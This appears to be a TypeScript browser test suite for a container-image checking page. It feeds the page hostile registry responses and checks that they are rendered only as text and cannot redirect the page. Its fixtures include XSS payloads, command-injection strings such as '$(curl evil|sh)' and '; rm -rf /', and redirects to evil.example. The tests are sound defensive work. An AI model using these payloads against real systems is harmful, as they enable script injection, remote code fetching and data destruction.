// Registries that say what nobody should: it is shown as text or left out, and never in a command.

import { afterEach, describe, expect, it } from "vitest";
import { boxes, check, copy, overflow, wait } from "./hands.ts";
import { play, type Played, type PlayedAnswer } from "./played.ts";
import { LANGUAGES, WORDS } from "./words.ts";
import { visit, type Visit } from "./visit.ts";

const INDEX = "application/vnd.oci.image.index.v1+json";
const MANIFEST = "application/vnd.oci.image.manifest.v1+json";
const CONFIG = "application/vnd.oci.image.config.v1+json";
const DIGEST = `sha256:${"a".repeat(64)}`;
const HOSTILE = [
  `<img src=x onerror="document.title='bad'">`,
  `<script>document.title='bad'</script>`,
  "; rm -rf /",
  "$(curl evil|sh)",
  "`curl evil`",
  "1.0\ncurl evil",
  "1.0\r\n",
  "1.0\u202Egnp",
  "\u2028",
  "a b",
  "",
  ".",
  "javascript:alert(1)",
  "é",
  "a".repeat(100_000),
];
const ODD = [...HOSTILE, 1, null, true, [], {}, ["a"], { a: "b" }];

let played: Played | undefined;

afterEach(async () => {
  await played?.close();
  played = undefined;
});

interface Said {
  readonly manifest?: PlayedAnswer;
  readonly blob?: PlayedAnswer;
  readonly tags?: PlayedAnswer;
}

let asked = 0;

/** Checks an image of which a registry says this. Each is another one: what the proxy keeps of the last must not be seen. */
async function ask(here: Visit, { manifest, blob, tags }: Said) {
  await played?.close();
  asked += 1;
  const repository = `hostile/image-${asked}`;
  played = await play({
    ...(manifest && {
      [`${repository}/manifests/1`]: manifest,
      [`${repository}/manifests/${DIGEST}`]: manifest,
    }),
    ...(blob && { [`${repository}/blobs/${DIGEST}`]: blob }),
    ...(tags && { [`${repository}/tags/list`]: tags }),
  });
  const output = await check(here, `mcr.microsoft.com/${repository}:1`);
  return { output, command: `docker pull ${here.host}/mcr.microsoft.com/${repository}:1` };
}

const IMAGE: PlayedAnswer = {
  headers: { "Content-Type": MANIFEST },
  body: {
    schemaVersion: 2,
    mediaType: MANIFEST,
    config: { mediaType: CONFIG, digest: DIGEST, size: 2 },
    layers: [],
  },
};

/** Nothing was made of what a registry said: no element, no title, nothing to the right of the window. */
async function expectHarmless(here: Visit): Promise<void> {
  const { page } = here;
  expect(await page.locator("#check-output").locator("img, script, iframe, b, style, a").count()).toBe(0);
  expect(await page.title()).not.toBe("bad");
  expect(await overflow(here)).toBeLessThanOrEqual(0);
  const text = await page.locator("#check-output").innerText();
  expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u2028]/);
  expect(text.length).toBeLessThan(20_000);
}

describe.each(LANGUAGES)("hostile tags in %s", (language) => {
  it("are counted and not shown, and the command is the one that was asked for", async () => {
    const here = await visit({ language, width: 320 });
    const tags = { body: { name: "x", tags: [...ODD, "good-1", "_good.2"] } };
    const { output, command } = await ask(here, { manifest: IMAGE, tags });
    await wait(output, "good-1");
    expect(await output.locator(".tags button").allTextContents()).toEqual(["good-1", "_good.2"]);
    expect(await output.innerText()).toContain(WORDS[language].oddTags);
    expect(await boxes(output)).toEqual([command]);
    const [pre] = await output.locator("pre").all();
    expect(pre && (await copy(here, pre))).toBe(command);
    await expectHarmless(here);
  });

  it("are a hundred where there are thousands", async () => {
    const here = await visit({ language });
    const many = Array.from({ length: 5_000 }, (_, at) => `v${at}${"x".repeat(100)}`);
    const { output } = await ask(here, { manifest: IMAGE, tags: { body: { name: "x", tags: many } } });
    await wait(output, WORDS[language].moreTags);
    expect(await output.locator(".tags button").count()).toBe(100);
    await expectHarmless(here);
  });
});

describe("a hostile registry", () => {
  it.each([["a text"], [{ tags: "a text" }], [{ tags: { length: 3 } }], [null], [[]], [1]])(
    "whose list of tags is %j is of no use, and does no harm",
    async (body) => {
      const here = await visit();
      const { output, command } = await ask(here, { manifest: IMAGE, tags: { body: JSON.stringify(body) } });
      await wait(output, WORDS.en.noDate);
      expect(await boxes(output)).toEqual([command]);
      await expectHarmless(here);
    },
  );

  it("has its platforms shown as text, short and visible", async () => {
    const here = await visit({ width: 320 });
    const manifests = ODD.map((odd, at) => ({
      digest: `sha256:${at.toString(16).padStart(64, "0")}`,
      mediaType: MANIFEST,
      size: odd,
      platform: { os: odd, architecture: odd, variant: odd, "os.version": odd },
    }));
    const strange = ODD.map((odd) => ({ digest: odd, platform: odd }));
    const body = { schemaVersion: 2, mediaType: INDEX, manifests: [...manifests, ...strange, ...ODD] };
    const manifest = { headers: { "Content-Type": INDEX }, body };
    const { output, command } = await ask(here, { manifest, tags: { body: { tags: ["1"] } } });
    await wait(output, WORDS.en.tags);
    expect(await boxes(output)).toEqual([command]);
    expect(await output.locator("option").count()).toBe(ODD.length);
    await expectHarmless(here);
  });

  it("has its dates left out where they are none", async () => {
    const here = await visit();
    for (const created of [...ODD, `2026-01-01T00:00:00Z<b>`, "2026-01-01T00:00\u202E"]) {
      const { output } = await ask(here, {
        manifest: IMAGE,
        blob: { body: { created } },
        tags: { body: {} },
      });
      await wait(output, WORDS.en.date);
      const date = await output.locator("dd").last().innerText();
      expect(date).toMatch(/^(none is written in it|2026-01-01 00:00 UTC \(.*\))$/);
      await expectHarmless(here);
    }
  }, 60_000);

  it("has its sizes left out where they are none", async () => {
    const here = await visit();
    const layers = [...ODD, -1, 1e999, 5].map((size) => ({ size, digest: DIGEST, mediaType: size }));
    const body = {
      schemaVersion: 2,
      mediaType: MANIFEST,
      config: { mediaType: CONFIG, digest: DIGEST },
      layers,
    };
    const { output } = await ask(here, { manifest: { headers: { "Content-Type": MANIFEST }, body } });
    await wait(output, "6 byte (layers");
    await expectHarmless(here);
  });

  it.each([400, 403, 404, 418, 429, 500])("has the words of its error %i shown as text", async (status) => {
    const here = await visit({ width: 320 });
    const message = HOSTILE.join(" ");
    const errors = [{ code: message, message, detail: message }];
    const headers = { "Retry-After": "<b>9</b>", "Docker-Content-Digest": message.replace(/[^ -~]/g, "") };
    const answer = { status, headers, body: { errors } };
    const { output } = await ask(here, { manifest: answer, tags: answer });
    await expect.poll(() => output.locator(".wrong").count()).toBeGreaterThan(0);
    expect(await boxes(output)).toEqual([]);
    await expectHarmless(here);
  });

  it("cannot send the page elsewhere, by a redirect or by a challenge", async () => {
    const here = await visit();
    for (const [status, headers] of [
      [302, { Location: "http://evil.example/" }],
      [401, { "WWW-Authenticate": 'Bearer realm="http://evil.example/token",service="x"' }],
      [401, { "WWW-Authenticate": 'Basic realm="x"' }],
      [401, { "WWW-Authenticate": 'Negotiate, Digest realm="x", nonce="y"' }],
    ] as const) {
      const { output } = await ask(here, { manifest: { status, headers, body: {} } });
      await expect.poll(() => output.locator(".wrong").count()).toBeGreaterThan(0);
    }
  });
});

describe("the page's policy", () => {
  it("lets no text become markup, and no script run that is not the page's", async () => {
    const here = await visit({ isForeign: true });
    const said = await here.page.evaluate(async () => {
      // What a debugger runs may do more: the rest is run by the page.
      await new Promise((resolve) => setTimeout(resolve));
      const tries: Record<string, () => unknown> = {
        innerHTML: () => (document.body.innerHTML = "<b>x</b>"),
        outerHTML: () => (document.body.outerHTML = "<b>x</b>"),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
        parse: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
        eval: () => void (0, eval)("1"),
        script: () => (document.createElement("script").text = "1"),
        policy: () =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy("mine", {}),
      };
      return Object.entries(tries).map(([name, attempt]) => {
        try {
          attempt();
          return `${name}: done`;
        } catch {
          return `${name}: refused`;
        }
      });
    });
    expect(said.filter((one) => !one.endsWith(": refused"))).toEqual([]);
    expect(await here.page.locator("b").count()).toBe(0);
  });

  it("lets nothing be fetched from another host, and no image be loaded", async () => {
    const here = await visit({ isForeign: true });
    const said = await here.page.evaluate(async () => {
      const image = new Image();
      const loaded = new Promise((resolve) => {
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("refused");
      });
      image.src = "/robots.txt";
      const fetched = await fetch("http://evil.localhost/").then(
        () => "fetched",
        () => "refused",
      );
      return [await loaded, fetched];
    });
    expect(said).toEqual(["refused", "refused"]);
  });
});
